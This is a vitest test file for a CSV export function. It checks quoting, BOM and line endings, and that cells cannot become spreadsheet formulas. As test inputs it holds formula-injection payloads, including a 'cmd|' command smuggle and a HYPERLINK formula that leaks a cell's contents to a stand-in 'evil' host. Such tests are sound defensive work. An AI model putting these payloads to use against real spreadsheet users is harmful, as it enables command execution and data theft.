import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { csvBytes } from './csv';

const text = (rows: string[][]) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(csvBytes(rows));

it('quotes what needs quotes', () => {
  expect(
    text([
      ['a', 'b"c', 'd,e'],
      ['1', 'x\ny', ''],
    ]),
  ).toBe('\ufeffa,"b""c","d,e"\r\n1,"x\ny",\r\n');
});

it('never hands a formula to a spreadsheet program', () => {
  expect(text([['=1+1', '-5.00', '@x', '+91 98', '-x']])).toBe("\ufeff'=1+1,-5.00,'@x,'+91 98,'-x\r\n");
  for (const formula of [
    '-1+1',
    '-2+3+cmd|x',
    '-1.5*A1',
    '--1',
    '-1e3',
    '- 5',
    '\tx',
    '\r=1',
    '\n=1',
    '\uff1d1',
    '\uff0d1',
  ]) {
    const cell = text([[formula]]).slice(1, -2);
    expect(cell.replace(/^"/, ''), formula).toMatch(/^'/);
  }
  expect(text([['-1+HYPERLINK("http://evil/?"&A2)']])).toBe('\ufeff"\'-1+HYPERLINK(""http://evil/?""&A2)"\r\n');
});

it('leaves negative numbers as they are', () => {
  for (const number of ['-5', '-5.00', '-1.234', "-1'234", '-1 234']) {
    expect(text([[number]]), number).toBe(`\ufeff${number}\r\n`);
  }
  expect(text([['-1,234.50']])).toBe('\ufeff"-1,234.50"\r\n');
});

it('keeps a cell whole where a semicolon or a tab parts cells', () => {
  expect(text([['x;=1+1', 'a\tb', 'c']])).toBe('\ufeff"x;=1+1","a\tb",c\r\n');
});

it('makes no text of an attacker a formula, a second cell or a second row', () => {
  const texts = JSON.parse(readFileSync('../tests/fixtures/hostile/texts.json', 'utf8')) as string[];
  expect(texts).toHaveLength(500);
  for (const hostile of texts.filter((one) => !/^-\d+$/.test(one))) {
    const line = text([[hostile, 'end']]).slice(1);
    const [, quoted, plain] = /^(?:"((?:[^"]|"")*)"|([^",;\t\r\n]*)),end\r\n$/.exec(line) ?? [];
    expect(quoted ?? plain, hostile).toMatch(/^[^=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
  }
});
